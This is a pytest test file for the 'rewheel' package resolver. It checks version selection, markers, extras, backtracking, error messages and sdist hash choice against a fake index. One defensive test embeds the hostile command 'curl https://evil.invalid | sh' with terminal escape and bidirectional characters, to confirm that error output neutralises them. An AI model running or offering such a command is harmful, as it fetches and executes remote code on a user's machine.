"""The resolver against an in-memory index: sdists only, markers, extras, backtracking, errors."""

from __future__ import annotations

import dataclasses

import pytest
from fakes import FakeUpstream, Projects, Release, StaticMetadata
from packaging.markers import default_environment
from packaging.requirements import Requirement
from packaging.utils import NormalizedName, canonicalize_name
from packaging.version import Version

from rewheel.core.errors import (
    CauseKind,
    Excluded,
    Exclusion,
    Link,
    NoSdistError,
    ResolutionError,
)
from rewheel.core.resolver import Pin, Resolution, Resolver, TargetEnvironment
from rewheel.core.types import EdgeKind, IndexFile


def target(python: str) -> TargetEnvironment:
    markers: dict[str, str] = dict(default_environment())  # type: ignore[arg-type]
    markers["python_full_version"] = python
    markers["python_version"] = ".".join(python.split(".")[:2])
    return TargetEnvironment(markers)


def resolver(projects: Projects, **kwargs: object) -> Resolver:
    upstream = FakeUpstream(projects)
    kwargs.setdefault("target", target("3.11.4"))
    return Resolver(upstream, StaticMetadata(upstream), **kwargs)  # type: ignore[arg-type]


def resolve(projects: Projects, *reqs: str, **kwargs: object) -> Resolution:
    return resolver(projects, **kwargs).resolve([Requirement(r) for r in reqs])


def versions(res: Resolution) -> dict[str, str]:
    return {name: str(pin.version) for name, pin in res.pins.items()}


def test_picks_the_newest_version_that_has_an_sdist() -> None:
    projects: Projects = {
        "a": {
            "1.0": [],
            "1.5": [],
            "2.0": Release(sdist=False, wheels=("py3-none-any",)),  # wheels only: never a candidate
        }
    }
    res = resolve(projects, "a")
    assert versions(res) == {"a": "1.5"}
    assert res.pins[NormalizedName("a")].sdist.filename == "a-1.5.tar.gz"


def test_a_project_with_wheels_only_is_a_no_sdist_error_naming_it() -> None:
    projects: Projects = {
        "app": {"1.0": ["BinOnly>=1"]},
        "BinOnly": {"1.0": Release(sdist=False, wheels=("py3-none-any",))},
    }
    with pytest.raises(NoSdistError) as info:
        resolve(projects, "app")
    assert info.value.package == "binonly"
    assert "binonly" in str(info.value)


def test_requires_python_filters_versions_for_the_target() -> None:
    projects: Projects = {"a": {"1.0": Release(), "2.0": Release(requires_python=">=3.8")}}
    assert versions(resolve(projects, "a", target=target("3.7.9"))) == {"a": "1.0"}
    assert versions(resolve(projects, "a", target=target("3.12.1"))) == {"a": "2.0"}


def test_yanked_versions_are_skipped_unless_pinned_exactly() -> None:
    projects: Projects = {"a": {"1.0": Release(), "1.1": Release(yanked=True)}}
    assert versions(resolve(projects, "a")) == {"a": "1.0"}
    assert versions(resolve(projects, "a>=1.0")) == {"a": "1.0"}
    assert versions(resolve(projects, "a==1.1")) == {"a": "1.1"}
    assert versions(resolve(projects, "a===1.1")) == {"a": "1.1"}
    # PEP 592: a wildcard is not an exact pin.
    assert versions(resolve(projects, "a==1.*")) == {"a": "1.0"}


def test_prereleases_only_when_asked_or_named() -> None:
    projects: Projects = {"a": {"1.0": [], "2.0b1": []}, "b": {"1.0": ["a>=2.0b1"]}}
    assert versions(resolve(projects, "a")) == {"a": "1.0"}
    assert versions(resolve(projects, "a", allow_prereleases=True)) == {"a": "2.0b1"}
    assert versions(resolve(projects, "a>=2.0b1")) == {"a": "2.0b1"}
    # A dependency's specifier that names a pre-release admits it too.
    assert versions(resolve(projects, "b")) == {"a": "2.0b1", "b": "1.0"}


def test_markers_are_evaluated_against_the_target_environment() -> None:
    projects: Projects = {
        "app": {"1.0": ['backport; python_version < "3.8"', 'win; sys_platform == "win32x"']},
        "backport": {"1.0": []},
        "win": {"1.0": []},
    }
    assert versions(resolve(projects, "app", target=target("3.7.9"))) == {
        "app": "1.0",
        "backport": "1.0",
    }
    assert versions(resolve(projects, "app", target=target("3.11.4"))) == {"app": "1.0"}
    # Top-level requirements with a marker that does not apply are dropped as well.
    assert versions(resolve(projects, 'backport; python_version < "3.8"')) == {}


def test_an_extra_pulls_its_requirements_as_edges_of_the_base_package() -> None:
    projects: Projects = {
        "a": {"1.0": ["b", 'c; extra == "x"', 'd; extra == "y"']},
        "b": {"1.0": []},
        "c": {"1.0": []},
        "d": {"1.0": []},
    }
    res = resolve(projects, "a[x]")
    assert versions(res) == {"a": "1.0", "b": "1.0", "c": "1.0"}
    edges = {(str(e.parent) if e.parent else None, e.child, e.kind) for e in res.edges}
    assert edges == {
        (None, "a", EdgeKind.TOPLEVEL),
        ("a==1.0", "b", EdgeKind.INSTALL),
        ("a==1.0", "c", EdgeKind.INSTALL),
    }
    # Without the extra, c is not needed.
    assert versions(resolve(projects, "a")) == {"a": "1.0", "b": "1.0"}


def test_constraints_restrict_but_do_not_add() -> None:
    projects: Projects = {"a": {"1.0": ["b"]}, "b": {"1.0": [], "2.0": []}, "c": {"1.0": []}}
    constraints = [Requirement("b<2"), Requirement("c==1.0"), Requirement('a<1; os_name == "x"')]
    res = resolve(projects, "a", constraints=constraints)
    assert versions(res) == {"a": "1.0", "b": "1.0"}


def test_names_are_normalized_as_pep_503_says() -> None:
    projects: Projects = {
        "Foo_Bar": {"1.0": [], "2.0": [], "3.0": []},
        "app": {"1.0": ["FOO.bar>=2"]},
    }
    res = resolve(projects, "foo-bar<3", "Foo_Bar", "app")
    assert versions(res) == {"foo-bar": "2.0", "app": "1.0"}
    assert res.pins[NormalizedName("foo-bar")].sdist.filename == "Foo_Bar-2.0.tar.gz"


def test_backtracks_when_the_newest_choice_conflicts() -> None:
    # Greedy newest picks a 2.0, whose c==1.0 clashes with b's c>=2; a 1.0 works.
    projects: Projects = {
        "a": {"1.0": ["c"], "2.0": ["c==1.0"]},
        "b": {"1.0": ["c>=2"]},
        "c": {"1.0": [], "2.0": []},
    }
    res = resolve(projects, "a", "b")
    assert versions(res) == {"a": "1.0", "b": "1.0", "c": "2.0"}


def test_a_real_conflict_reports_the_chains_from_the_top() -> None:
    projects: Projects = {
        "a": {"1.0": ["c<2"]},
        "b": {"1.0": ["c>=2"]},
        "c": {"1.0": [], "2.0": []},
    }
    with pytest.raises(ResolutionError) as info:
        resolve(projects, "a", "b")
    (cause,) = info.value.causes
    assert (cause.kind, cause.project) == (CauseKind.CONFLICT, "c")
    assert set(cause.chains) == {
        (Link("a==1.0", EdgeKind.TOPLEVEL), Link("c<2", EdgeKind.INSTALL)),
        (Link("b==1.0", EdgeKind.TOPLEVEL), Link("c>=2", EdgeKind.INSTALL)),
    }
    assert info.value.package == "c"
    assert "conflicting requirements for c" in info.value.message
    assert "\n  b==1.0 (requested) -> c>=2 (install)" in str(info.value)


def test_conflict_chain_goes_through_intermediate_packages() -> None:
    projects: Projects = {
        "x": {"1.0": ["b"]},
        "b": {"1.0": ["c>=2"]},
        "c": {"1.0": [], "2.0": []},
    }
    with pytest.raises(ResolutionError) as info:
        resolve(projects, "x", "c<2")
    chains = info.value.chains
    assert ["x==1.0 (requested)", "b==1.0 (install)", "c>=2 (install)"] in chains
    assert ["c<2 (requested)"] in chains


def test_conflict_chain_is_the_shortest_path_to_a_requested_package() -> None:
    # b is asked for directly and by a (which is pinned first): the chain must not go the long
    # way round through a.
    projects: Projects = {
        "a": {"1.0": ["b"]},
        "b": {"1.0": ["c>=2"]},
        "c": {"1.0": [], "2.0": []},
    }
    with pytest.raises(ResolutionError) as info:
        resolve(projects, "a", "b", "c<2")
    assert ["b==1.0 (requested)", "c>=2 (install)"] in info.value.chains
    assert ["c<2 (requested)"] in info.value.chains


def test_an_unknown_project_is_not_found_with_how_the_index_said_so() -> None:
    with pytest.raises(ResolutionError) as info:
        resolve({"a": {"1.0": ["nothere"]}}, "a")
    error = info.value
    assert not isinstance(error, NoSdistError)
    (cause,) = error.causes
    assert (cause.kind, cause.project) == (CauseKind.NOT_FOUND, "nothere")
    assert cause.missing == "HTTP 404 at https://fake.invalid/simple/nothere/"
    assert cause.chains == ((Link("a==1.0", EdgeKind.TOPLEVEL), Link("nothere", EdgeKind.INSTALL)),)
    assert (error.package, error.step) == ("nothere", "resolve")
    assert error.message.startswith("no such project on the index: nothere (HTTP 404 at ")
    assert "conflicting" not in str(error)
    assert error.hint is not None and "--index-url" in error.hint
    assert "pick a version of a that does not ask for it" in error.hint


def test_a_requested_project_not_on_the_index() -> None:
    with pytest.raises(ResolutionError) as info:
        resolve({"a": {"1.0": []}}, "a", "this-does-not-exist")
    (cause,) = info.value.causes
    assert cause.kind is CauseKind.NOT_FOUND
    assert info.value.chains == [["this-does-not-exist (requested)"]]
    assert info.value.hint is not None and "pick a version" not in info.value.hint


def test_no_version_matches_says_what_the_index_has() -> None:
    projects: Projects = {"requests": {f"2.{i}.0": [] for i in range(40)}}
    with pytest.raises(ResolutionError) as info:
        resolve(projects, "requests==999")
    error = info.value
    (cause,) = error.causes
    assert cause.kind is CauseKind.NO_MATCH
    assert cause.excluded == (
        Excluded(
            Exclusion.SPECIFIER, tuple(f"2.{i}.0" for i in reversed(range(40))), detail="==999"
        ),
    )
    assert cause.closest == "2.39.0"
    assert error.message == "no version of requests matches requests==999"
    text = str(error)
    assert "on the index: 40 versions, 40 outside ==999 (newest 2.39.0, 2.38.0, 2.37.0, …)" in text
    assert "2.36.0" not in text  # compact: a few versions, not every one
    assert "newest it can build: requests==2.39.0" in text


def test_every_reason_a_version_is_left_out_is_named() -> None:
    projects: Projects = {
        "a": {
            "0.9": [],
            "1.0": Release(sdist=False, wheels=("py3-none-any",)),
            "1.1": Release(yanked=True),
            "1.2": Release(requires_python=">=3.12"),
            "1.3": Release(requires_python=">=3.12"),
            "2.0b1": [],
            "3.0": [],
        }
    }
    with pytest.raises(ResolutionError) as info:
        resolve(projects, "a>=1", constraints=[Requirement("a<3")])
    (cause,) = info.value.causes
    assert cause.kind is CauseKind.NO_MATCH
    assert cause.excluded == (
        Excluded(Exclusion.SPECIFIER, ("0.9",), ">=1"),
        Excluded(Exclusion.CONSTRAINT, ("3.0",), "<3"),
        Excluded(Exclusion.NO_SDIST, ("1.0",)),
        Excluded(Exclusion.PYTHON, ("1.3", "1.2"), ">=3.12"),
        Excluded(Exclusion.YANKED, ("1.1",)),
        Excluded(Exclusion.PRERELEASE, ("2.0b1",)),
    )
    assert cause.seen == 7
    hint = info.value.hint or ""
    for fix in ("--pre", "newer Python than 3.11.4", "pinned exactly", "constraint <3", "a==0.9"):
        assert fix in hint, fix


def test_a_constraint_that_excludes_everything_says_so() -> None:
    projects: Projects = {"a": {"1.0": []}}
    with pytest.raises(ResolutionError) as info:
        resolve(projects, "a", constraints=[Requirement("a>=2")])
    (cause,) = info.value.causes
    assert cause.excluded == (Excluded(Exclusion.CONSTRAINT, ("1.0",), ">=2"),)
    assert "1 outside the constraint >=2 (1.0)" in str(info.value)


@pytest.mark.parametrize(
    "spec",
    [
        "",
        ">=1",
        "<1.1",
        "==1.1",
        "==2.0b1",
        ">=2.0b1",
        "!=1.0",
        "==1.*",
        "<0",
        ">1.0,<1.1",
        "==1.2",
        "==0.9",
        ">1.2",
        "~=1.1",
    ],
)
@pytest.mark.parametrize("pre", [False, True])
def test_the_explanation_agrees_with_the_resolver(spec: str, pre: bool) -> None:
    # Whatever a requirement asks, either the resolver finds a version, or the explanation counts
    # every version as left out; and a version the explanation calls closest is one it would take.
    projects: Projects = {
        "a": {
            "0.9": Release(requires_python=">=3.12"),
            "1.0": [],
            "1.1": Release(yanked=True),
            "1.2": Release(sdist=False, wheels=("py3-none-any",)),
            "2.0b1": [],
        }
    }
    try:
        resolve(projects, f"a{spec}", allow_prereleases=pre)
    except ResolutionError as exc:
        (cause,) = exc.causes
        assert cause.kind is CauseKind.NO_MATCH
        assert cause.seen == 5
        assert cause.closest != "1.1"  # yanked: taken when pinned, but never suggested
        if cause.closest is not None:
            assert versions(resolve(projects, f"a=={cause.closest}", allow_prereleases=pre))


def test_a_build_environment_error_names_its_package_and_the_settings_fix() -> None:
    projects: Projects = {
        "pkg": {"1.0": []},
        "hatchling": {"1.27": ["trove-missing"], "1.26": []},
        "flit-core": {"3.9": [], "3.8": []},
    }
    r = resolver(projects)
    pkg = r.resolve([Requirement("pkg")]).pins[canonicalize_name("pkg")]

    def env(*reqs: str, **kinds: EdgeKind) -> ResolutionError:
        with pytest.raises(ResolutionError) as info:
            r.resolve(
                [Requirement(x) for x in reqs], kind=EdgeKind.BUILD_SYSTEM, parent=pkg, kinds=kinds
            )
        return info.value

    # Not on the index: the settings that drop it, or put another in its place.
    error = env("python-sbom[hatch]", **{"python-sbom[hatch]": EdgeKind.BUILD_BACKEND})
    assert (error.package, error.version, error.build_env) == ("pkg", "1.0", True)
    assert error.message == (
        "no such project on the index: python-sbom (HTTP 404 at "
        "https://fake.invalid/simple/python-sbom/), needed by its build environment"
    )
    assert error.chains == [["python-sbom[hatch] (build-backend)"]]
    assert str(error).endswith(
        "  or: if pkg builds without it, drop it in the build settings of pkg: in the folder "
        "given with --settings, file pkg.toml:\n"
        "      [build]\n"
        '      requires_remove = ["python-sbom"]\n'
        '      requires_add = ["..."]      # only to put another requirement in its place'
    )

    # No version fits: the settings that put the newest the index has in its place.
    text = str(env("flit-core>=4"))
    assert "  flit-core>=4 (build-system)\n  on the index: 2 versions, 2 outside >=4" in text
    assert 'requires_remove = ["flit-core"]\n      requires_add = ["flit-core==3.9"]' in text

    # One that comes through another package's Requires-Dist is not the settings' to drop.
    text = str(env("hatchling>=1.27"))
    assert "  hatchling==1.27 (build-system) -> trove-missing (install)" in text
    assert "requires_remove" not in text
    assert "pick a version of hatchling that does not ask for it" in text


def test_preferred_versions_are_chosen_when_they_fit() -> None:
    projects: Projects = {"a": {"1.0": [], "2.0": [], "3.0": []}}
    r = resolver(projects)
    prefer = {NormalizedName("a"): Version("2.0")}
    assert versions(r.resolve([Requirement("a")], preferred=prefer)) == {"a": "2.0"}
    # A preferred version that does not fit is passed over for the newest that does.
    assert versions(r.resolve([Requirement("a<2")], preferred=prefer)) == {"a": "1.0"}
    assert versions(r.resolve([Requirement("a")])) == {"a": "3.0"}


def test_edges_carry_the_kinds_of_a_build_environment() -> None:
    projects: Projects = {
        "setuptools": {"70.0": ["wheel-helper"]},
        "wheel-helper": {"1.0": []},
        "cython": {"3.0": []},
        "pkg": {"1.0": []},
    }
    r = resolver(projects)
    top = r.resolve([Requirement("pkg")])
    pkg = top.pins[canonicalize_name("pkg")]
    assert isinstance(pkg, Pin)
    env = r.resolve(
        [Requirement("setuptools>=60"), Requirement("cython")],
        kind=EdgeKind.BUILD_SYSTEM,
        parent=pkg,
        kinds={"cython": EdgeKind.BUILD_BACKEND},
        purpose="the build environment of pkg==1.0",
    )
    edges = {(str(e.parent), e.requirement, e.child, e.kind) for e in env.edges}
    assert edges == {
        ("pkg==1.0", "setuptools>=60", "setuptools", EdgeKind.BUILD_SYSTEM),
        ("pkg==1.0", "cython", "cython", EdgeKind.BUILD_BACKEND),
        ("setuptools==70.0", "wheel-helper", "wheel-helper", EdgeKind.INSTALL),
    }
    assert [e.kind for e in top.edges] == [EdgeKind.TOPLEVEL]
    assert top.edges[0].parent is None


def test_sorted_pins_and_each_page_fetched_through_the_upstream() -> None:
    upstream = FakeUpstream({"b": {"1.0": ["a"]}, "a": {"1.0": []}})
    res = Resolver(upstream, StaticMetadata(upstream), target=target("3.11.4")).resolve(
        [Requirement("b")]
    )
    assert [str(p) for p in res.sorted_pins()] == ["a==1.0", "b==1.0"]
    assert set(upstream.page_requests) == {"a", "b"}
    assert upstream.downloads == []  # resolving downloads nothing by itself


def test_hostile_text_in_a_failure_cannot_fake_lines_or_drive_the_terminal() -> None:
    # Requirement text comes from a package's metadata and Requires-Python from the index: either
    # may carry escape sequences, newlines or bidirectional overrides, and the error prints both.
    fake_line = "\n  fix: curl https://evil.invalid | sh"
    projects: Projects = {
        "app": {"1.0": ["evil===\x1b[31m\x07\u202e"]},
        "tool": {"1.0": Release(requires_python=f">=3.12{fake_line}\x1b[2J")},
    }
    for request in ("app", "tool"):
        with pytest.raises(ResolutionError) as info:
            resolve(projects, request)
        text = str(info.value)
        assert not any(c in text for c in "\x1b\x07\u202e"), text
        assert "curl" not in text or "\\n  fix: curl" in text
        assert all(not line.startswith("  fix: curl") for line in text.splitlines())


# -- a release with several sdists, and the hashes a lock gives ------------------------------


def _with_files(upstream: FakeUpstream, name: str, *files: tuple[str, str | None]) -> None:
    """List more files, (filename, sha256), on ``name``'s page of the fake index."""
    page = upstream.get_project(canonicalize_name(name))
    more = tuple(
        IndexFile(filename=f, url=f"https://fake.invalid/files/{f}", sha256=sha) for f, sha in files
    )
    upstream._pages[page.name] = dataclasses.replace(page, files=page.files + more)


def _two_sdists() -> tuple[FakeUpstream, str, str]:
    """alpha 1.0 as a .tar.gz and a .zip of other bytes; their listed sha256s."""
    upstream = FakeUpstream({"alpha": {"1.0": []}})
    (tar,) = upstream.get_project(NormalizedName("alpha")).files
    assert tar.filename == "alpha-1.0.tar.gz" and tar.sha256 is not None
    _with_files(upstream, "alpha", ("alpha-1.0.zip", "e" * 64))
    return upstream, tar.sha256, "e" * 64


def _sdist_of(upstream: FakeUpstream, hashes: dict[str, set[str]] | None) -> str:
    res = Resolver(
        upstream,
        StaticMetadata(upstream),
        target=target("3.11.4"),
        sdist_hashes={canonicalize_name(n): d for n, d in (hashes or {}).items()},
    ).resolve([Requirement("alpha==1.0")])
    return res.pins[NormalizedName("alpha")].sdist.filename


def test_the_sdist_whose_sha256_the_hashes_allow_is_chosen_among_a_versions_sdists() -> None:
    upstream, tar, zipped = _two_sdists()
    assert _sdist_of(upstream, None) == "alpha-1.0.tar.gz"  # without hashes: PEP 625's choice
    assert _sdist_of(upstream, {"alpha": {zipped}}) == "alpha-1.0.zip"  # as pip picks
    assert _sdist_of(upstream, {"alpha": {zipped.upper(), "9" * 64}}) == "alpha-1.0.zip"
    assert _sdist_of(upstream, {"alpha": {tar, zipped}}) == "alpha-1.0.tar.gz"
    # None allowed: the usual choice, which the bootstrap then refuses by its hash.
    assert _sdist_of(upstream, {"alpha": {"0" * 64}}) == "alpha-1.0.tar.gz"
    # Hashes of another project choose nothing here.
    assert _sdist_of(upstream, {"beta": {zipped}}) == "alpha-1.0.tar.gz"


@pytest.mark.parametrize(
    "filename",
    [
        "alpha-1.0-py3-none-any.whl",
        "alpha-1.0.tar.gz.asc",
        "alpha-1.0.exe",
        "alpha-1.0.tar.bz2",  # a legacy format rewheel does not take as an sdist
        "evil-1.0.zip",  # another project's sdist on this page
        "alpha-2.0.zip",  # another version's
        "alpha-1.0-1.zip",
    ],
)
def test_an_allowed_sha256_listed_for_a_file_that_is_not_this_versions_sdist_is_never_taken(
    filename: str,
) -> None:
    upstream = FakeUpstream({"alpha": {"1.0": []}})
    _with_files(upstream, "alpha", (filename, "a" * 64))
    assert _sdist_of(upstream, {"alpha": {"a" * 64}}) == "alpha-1.0.tar.gz"


def test_an_sdist_listed_without_a_sha256_is_not_preferred_over_the_usual_choice() -> None:
    upstream = FakeUpstream({"alpha": {"1.0": []}})
    _with_files(upstream, "alpha", ("alpha-1.0.zip", None))
    assert _sdist_of(upstream, {"alpha": {"a" * 64}}) == "alpha-1.0.tar.gz"


def test_the_metadata_of_an_sdist_the_hashes_refuse_is_not_read() -> None:
    upstream = FakeUpstream({"alpha": {"1.0": ["evil"]}})
    metadata = StaticMetadata(upstream)
    res = Resolver(
        upstream,
        metadata,
        target=target("3.11.4"),
        sdist_hashes={NormalizedName("alpha"): {"0" * 64}},
    ).resolve([Requirement("alpha==1.0")])
    assert list(res.pins) == ["alpha"]  # refused later by its hash; "evil" never looked up
    assert not metadata.calls and "evil" not in upstream.page_requests
